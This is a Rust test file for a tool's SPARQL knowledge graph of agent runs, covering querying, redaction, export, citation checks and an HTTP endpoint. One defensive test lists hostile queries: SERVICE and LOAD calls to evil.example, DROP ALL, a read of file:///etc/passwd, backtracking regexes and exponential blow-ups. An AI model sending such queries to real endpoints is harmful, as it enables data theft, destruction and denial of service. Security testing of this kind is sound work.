//! The graph of runs on the command line: asked, exported, attacked.
//!
//! `CONVOKE_QUERY_MUTATIONS` says how many damaged queries one worker is asked (200 unless told; 10000 for the long version).

use crate::common::World;
use convoke_knowledge::Error;
use convoke_knowledge::ask::{Bounds, Form, Question, View, prepared};
use convoke_knowledge::worker::{Worker, WorkerCommand};
use convoke_testkit::Random;
use serde_json::Value;
use std::time::{Duration, Instant};

const MANIFEST: &str = "query: Where is the CANARY-QUERY?\nagents:\n  - {id: scout, role: market analyst, partitions: workflow.input.topics}\n\
    \x20 - {id: law, role: lawyer}\n  - {id: head, role: head of it, depends_on: [scout, {agent: law, requires: any}]}\nsynthesis: {strategy: hierarchical}\n\
    inputs: {topics: {type: array}}\nname: market\n";

fn with_a_run() -> World {
    let world = World::new();
    world.write("m.yaml", MANIFEST);
    world.write("r.yaml", "replies:\n  law: {fail: refused, message: CANARY-MESSAGE}\ndefault: [a position with CANARY-OUTPUT in it]\n");
    let args = [
        "run",
        "m.yaml",
        "--replies",
        "r.yaml",
        "-i",
        "topics=[\"CANARY-ITEM\", \"other\"]",
        "--allow-partial",
    ];
    let said = world.run(&args);
    assert_eq!(said.code, 0, "{}", said.stderr);
    world
}

fn worker(world: &World) -> Worker {
    let (program, folder) = (env!("CARGO_BIN_EXE_convoke").into(), world.state().join("knowledge"));
    Worker::new(WorkerCommand { program, word: "__knowledge".into(), folder })
}

fn question(query: &str, time_ms: u64) -> Question {
    let bounds = Bounds { time_ms, ..Bounds::AGENT };
    Question { query: query.to_owned(), bounds, view: View::All, form: Form::Rows, given: None }
}

#[test]
fn every_prepared_question_is_answered_in_words_that_people_read() {
    let world = with_a_run();
    for one in prepared() {
        let mut args = vec!["knowledge", "ask", one.name];
        for parameter in one.parameters.iter().filter(|parameter| parameter.default.is_none()) {
            args.push(if matches!(parameter.name, "run" | "other") { "last" } else { "law" });
        }
        let said = world.run(&args);
        assert_eq!(said.code, 0, "{}: {}", one.name, said.stderr);
        assert!(!said.stdout.is_empty(), "{}", one.name);
    }
    let sources = world.run(&["knowledge", "ask", "sources", "last"]).stdout;
    assert!(sources.contains("market analyst") && sources.contains("head of it"), "{sources}");
    let failed = world.run(&["knowledge", "ask", "failed-tasks", "last"]).stdout;
    assert!(failed.contains("law") && failed.contains("cv:failure-refused"), "{failed}");
    let list = world.run(&["knowledge", "ask"]).stdout;
    assert_eq!(list.lines().count(), prepared().len(), "{list}");
}

#[test]
fn no_value_of_a_run_is_in_its_graph_unless_it_is_asked_for() {
    let world = with_a_run();
    let all = "SELECT ?s ?p ?o { ?s ?p ?o }";
    let said = world.run(&["knowledge", "query", all, "--format", "csv"]);
    assert!(said.code == 0 && said.stdout.lines().count() > 50, "{}", said.stderr);
    assert!(!said.stdout.contains("CANARY"), "{}", said.stdout);
    assert_eq!(world.run(&["knowledge", "rebuild", "--contents"]).code, 0);
    let said = world.run(&["knowledge", "query", all, "--format", "csv"]).stdout;
    assert!(
        ["CANARY-OUTPUT", "CANARY-MESSAGE", "CANARY-ITEM"].iter().all(|word| said.contains(word)),
        "{said}"
    );
    assert_eq!(world.run(&["knowledge", "rebuild"]).code, 0);
    assert!(!world.run(&["knowledge", "query", all, "--format", "csv"]).stdout.contains("CANARY"));
}

#[test]
fn a_run_that_is_pruned_leaves_the_graph() {
    let world = with_a_run();
    let count = |world: &World| {
        world
            .run(&["knowledge", "query", "SELECT ?r { ?r a cv:ParallelExecution }", "--format", "csv"])
            .stdout
            .lines()
            .count()
    };
    assert_eq!(count(&world), 2);
    let said = world.run(&["prune", "--keep-last", "0"]);
    assert_eq!(said.code, 0, "{}", said.stderr);
    assert_eq!(count(&world), 1);
}

#[test]
fn a_graph_is_exported_in_the_formats_of_others() {
    let world = with_a_run();
    for (format, wanted) in
        [("ttl", "@prefix cv:"), ("nq", "<urn:convoke:journal:"), ("jsonld", "\"@graph\"")]
    {
        let said = world.run(&["knowledge", "export", "last", "--format", format]);
        assert!(said.code == 0 && said.stdout.contains(wanted), "{format}: {} {}", said.stdout, said.stderr);
    }
    let said =
        world.run(&["knowledge", "export", "last", "--format", "ro-crate", "-o", "crate", "--contents"]);
    assert_eq!(said.code, 0, "{}", said.stderr);
    let metadata: Value =
        serde_json::from_slice(&std::fs::read(world.path("crate/ro-crate-metadata.json")).unwrap()).unwrap();
    let graph = metadata["@graph"].as_array().unwrap();
    for entry in graph.iter().filter(|entry| entry["@type"] == "File") {
        let path = entry["@id"].as_str().unwrap();
        let size = std::fs::metadata(world.path("crate").join(path)).unwrap().len();
        assert_eq!(entry["contentSize"], size.to_string(), "{path}");
    }
    assert!(graph.iter().any(|entry| entry["@type"] == "CreateAction"));
    let again = world.run(&["knowledge", "export", "last", "--format", "ro-crate", "-o", "crate"]);
    assert_ne!(again.code, 0, "a folder that exists is not written into");
}

/// Queries that want to hurt: each ends within its limits, and the program goes on.
#[test]
fn hostile_queries_end_within_their_limits() {
    let world = with_a_run();
    assert_eq!(world.run(&["knowledge", "rebuild"]).code, 0);
    let deep = |sign: &str, end: &str| {
        format!("SELECT * {{ ?s ?p ?o FILTER({}true{}) }}", sign.repeat(7000), end.repeat(7000))
    };
    let groups = format!("SELECT * {}?s ?p ?o{}", "{".repeat(3000), "}".repeat(3000));
    let optional = format!("SELECT * {{ {} ?s ?p ?o {} }}", "OPTIONAL { ".repeat(700), "}".repeat(700));
    let doubling =
        (1..45).map(|n| format!("BIND(CONCAT(?x{}, ?x{}) AS ?x{n})", n - 1, n - 1)).collect::<String>();
    let doubling = format!("SELECT (STRLEN(?x44) AS ?n) {{ BIND(\"0123456789\" AS ?x0) {doubling} }}");
    let hostile = [
        "SELECT * { SERVICE <http://evil.example/sparql> { ?s ?p ?o } }",
        "SELECT * { SERVICE SILENT <http://evil.example/sparql> { ?s ?p ?o } }",
        "LOAD <http://evil.example/x.ttl>",
        "DROP ALL",
        "INSERT DATA { <urn:a> <urn:b> <urn:c> }",
        "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
        "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
        "SELECT (COUNT(*) AS ?n) { ?a prov:wasDerivedFrom+ ?b }",
        "SELECT (COUNT(*) AS ?n) { ?a (cv:dependsOn|!cv:dependsOn)* ?b }",
        "SELECT * { ?s ?p ?o } ORDER BY ?o",
        "SELECT * { ?s cv:taskId ?o FILTER(REGEX(?o, \"^(a+)+$\")) }",
        "SELECT * { ?s ?p ?o FILTER(REGEX(?o, \"((a{1000}){1000}){1000}\")) }",
        "SELECT ?a ?b { ?a cv:status ?x . ?b cv:status ?x . ?c cv:status ?x . ?d cv:status ?x }",
        &deep("(", ")"),
        &deep("!", ""),
        &groups,
        &optional,
        &doubling,
    ];
    let mut worker = worker(&world);
    for query in hostile {
        let begin = Instant::now();
        let answered = worker.ask(&question(query, 2_000));
        // The bound is the query's own and that of the worker; what a slow machine adds is no matter of the verdict.
        assert!(begin.elapsed() < Duration::from_secs(60), "{:.80}", query);
        if let Err(error) = &answered {
            assert!(matches!(error, Error::Refused(_) | Error::Stopped(_)), "{query:.80}: {error}");
        }
        let alive = worker.ask(&question("ASK { ?s ?p ?o }", 20_000)).unwrap();
        assert!(alive.body.contains("true"), "{:.80}", query);
    }
    let said = world.run(&["knowledge", "query", &doubling, "--timeout", "5"]);
    assert_eq!(said.code, 4, "{}", said.stderr);
}

#[test]
fn damaged_queries_are_refused_or_answered() {
    let world = with_a_run();
    assert_eq!(world.run(&["knowledge", "rebuild"]).code, 0);
    let count =
        std::env::var("CONVOKE_QUERY_MUTATIONS").ok().and_then(|text| text.parse().ok()).unwrap_or(200);
    let seeds = [
        "SELECT ?t (COUNT(?a) AS ?n) WHERE { ?a cv:attemptOf ?t ; cv:status cv:Failed . OPTIONAL { ?t cv:taskId ?i } } GROUP BY ?t ORDER BY DESC(?n) LIMIT 5",
        "CONSTRUCT { ?s ?p ?o } WHERE { GRAPH ?g { ?s ?p ?o } FILTER(REGEX(STR(?o), \"a.b\", \"i\")) }",
        "SELECT DISTINCT ?x { { ?x cv:matches \"scout\" } UNION { ?x prov:wasDerivedFrom+/prov:wasGeneratedBy ?y } MINUS { ?x a cv:Task } }",
    ];
    let mut random = Random::new(19);
    let mut worker = worker(&world);
    let mut answered = 0;
    for _ in 0..count {
        let mut query: Vec<char> = seeds[random.below(3) as usize].chars().collect();
        for _ in 0..1 + random.below(3) {
            let at = random.below(query.len() as u64) as usize;
            match random.below(3) {
                0 => drop(query.remove(at)),
                1 => query.insert(
                    at,
                    ['{', '}', '(', '*', '"', '?', '+', '<', ' ', '!'][random.below(10) as usize],
                ),
                _ => {
                    let to = random.below(query.len() as u64) as usize;
                    query.swap(at, to);
                }
            }
        }
        let query: String = query.into_iter().collect();
        match worker.ask(&question(&query, 3_000)) {
            Ok(_) => answered += 1,
            Err(Error::Refused(_) | Error::Stopped(_)) => {}
            Err(error) => panic!("{query}: {error}"),
        }
    }
    assert!(answered > 0);
}

/// An agent asks about its own run, and a query that is refused is a result that says why.
#[test]
fn an_agent_asks_the_graph_of_its_own_run() {
    let world = World::new();
    world.write(
        "w.yaml",
        "workflow: {name: w, entry_point: first}\nagents:\n  - {name: first, prompt: Begin, routes: [{to: asker}]}\n\
         \x20 - {name: asker, tools: [knowledge_query], prompt: What was done?, routes: [{to: $end}]}\n",
    );
    let ask = |query: &str, scope: &str| {
        format!(
            "{{tool_calls: [{{name: convoke__knowledge_query, arguments: {{query: '{query}', scope: {scope}}}}}]}}"
        )
    };
    let replies = [
        ask("SELECT ?i { ?t cv:taskId ?i ; cv:status cv:Succeeded }", "run"),
        ask("SELECT (COUNT(?r) AS ?n) { ?r a cv:ParallelExecution }", "project"),
        ask("SELECT (COUNT(?r) AS ?n) { ?r a cv:ParallelExecution }", "run"),
        ask("DROP ALL", "run"),
    ];
    world.write("r.yaml", format!("replies:\n  asker: [{}, done]\ndefault: [x]\n", replies.join(", ")));
    for _ in 0..2 {
        let said = world.run(&["run", "w.yaml", "--replies", "r.yaml"]);
        assert_eq!(said.code, 0, "{}", said.stderr);
    }
    let shown = world.run(&["show", "last", "asker", "--full"]).stdout;
    assert!(shown.contains("[[\"first\"]]"), "its own first task: {shown}");
    assert!(
        shown.contains("[[2]]") && shown.contains("[[1]]"),
        "two runs in the folder, one of its own: {shown}"
    );
    assert!(shown.contains("this is an update"), "{shown}");
}

/// The answer cites three sources: one quotation is right, one is of another source, one source is not there.
#[test]
fn an_answer_is_shown_with_its_sources_and_its_citations_checked() {
    let world = World::new();
    world.write(
        "m.yaml",
        "query: What now?\nagents: [{id: a, task: t}, {id: b, task: t}, {id: c, task: t}]\nsynthesis: {strategy: hierarchical}\n",
    );
    world.write(
        "r.yaml",
        "replies:\n  a: Rents rose by 12% since 2019.\n  b: The lease ends in March.\n  c: nothing\n  synthesis/merge: 'Rents are up: \"rose by 12%\" [S1]. It was \"never asked\" [S2]. Done [S9]. In short [S3].'\n",
    );
    let said = world.run(&["run", "m.yaml", "--replies", "r.yaml"]);
    assert_eq!(said.code, 0, "{}", said.stderr);
    let shown = world.run(&["show", "last", "--sources"]);
    assert_eq!(shown.code, 0, "{}", shown.stderr);
    assert!(shown.stdout.contains("citations: 4, 2 wrong"), "{}", shown.stdout);
    let record: Value =
        serde_json::from_str(&world.run(&["show", "last", "--sources", "--format", "json"]).stdout).unwrap();
    let verdicts: Vec<&str> =
        record["citations"].as_array().unwrap().iter().map(|one| one["verdict"].as_str().unwrap()).collect();
    assert_eq!(verdicts, ["quote_found", "quote_missing", "unknown_source", "unchecked"]);
    // The merge has recorded the same.
    let task: Value =
        serde_json::from_str(&world.run(&["show", "last", "synthesis", "--format", "json"]).stdout).unwrap();
    let recorded = task["output"]["citations"].as_array().unwrap_or_else(|| panic!("{task}"));
    assert_eq!(recorded.iter().map(|one| one["verdict"].as_str().unwrap()).collect::<Vec<_>>(), verdicts);
    // So does the graph, without a word of the answer.
    let known = world.run(&["knowledge", "ask", "citations", "last", "--format", "csv"]).stdout;
    let rows: Vec<&str> = known.lines().skip(1).collect();
    let word = |row: &str| row.rsplit([':', '#']).next().unwrap_or_default().to_owned();
    let words: Vec<String> = rows.iter().map(|row| word(row)).collect();
    assert_eq!(words, ["QuoteFound", "QuoteMissing", "UnknownSource", "Unchecked"], "{known}");
    assert!(rows[0].starts_with("synthesis,1,a,") && rows[2].starts_with("synthesis,3,,"), "{known}");
    let sources = world.run(&["knowledge", "ask", "sources", "last", "--format", "csv"]).stdout;
    assert!(sources.lines().any(|row| row.starts_with("a,") && row.ends_with(",1")), "{sources}");
    let passages = "SELECT ?p { ?c a cv:Citation ; ?p ?o FILTER(?p IN (cv:claimText, cv:excerptText)) }";
    assert_eq!(world.run(&["knowledge", "query", passages, "--format", "csv"]).stdout.trim(), "p");
}

#[test]
fn sparql_is_answered_over_http() {
    let world = crate::support::World::new();
    world
        .write("w.yaml", "workflow: {name: w, entry_point: a}\nagents: [{name: a, type: set, value: '1'}]\n");
    world.convoke(&["run", "w.yaml"]).exits(0);
    let served = crate::serving::Served::over(&world);
    let found =
        served.get("/sparql?query=SELECT%20%3Fw%20%7B%20%3Fr%20cv%3Aworkflow%20%3Fw%20%7D").is(200).json();
    assert_eq!(found["results"]["bindings"][0]["w"]["value"], "w");
    let send = |kind: &str, accept: &str, body: &str| {
        let mut headers = served.honest();
        headers.retain(|(name, _)| !name.eq_ignore_ascii_case("content-type"));
        headers
            .extend([("content-type".to_owned(), kind.to_owned()), ("accept".to_owned(), accept.to_owned())]);
        served.send("POST", "/api/v1/sparql", &headers, body)
    };
    let csv = send("application/sparql-query", "text/csv", "SELECT ?w { ?r cv:workflow ?w }").is(200);
    assert_eq!(csv.body.trim(), "w\r\nw");
    send("application/x-www-form-urlencoded", "*/*", "query=ASK%20%7B%3Fs%20%3Fp%20%3Fo%7D").is(200);
    send("application/sparql-update", "*/*", "DROP ALL").is(403);
    send("application/sparql-query", "*/*", "DROP ALL").is(400);
    send("application/sparql-query", "image/png", "ASK { ?s ?p ?o }").is(406);
    served.get("/sparql").is(400);
}
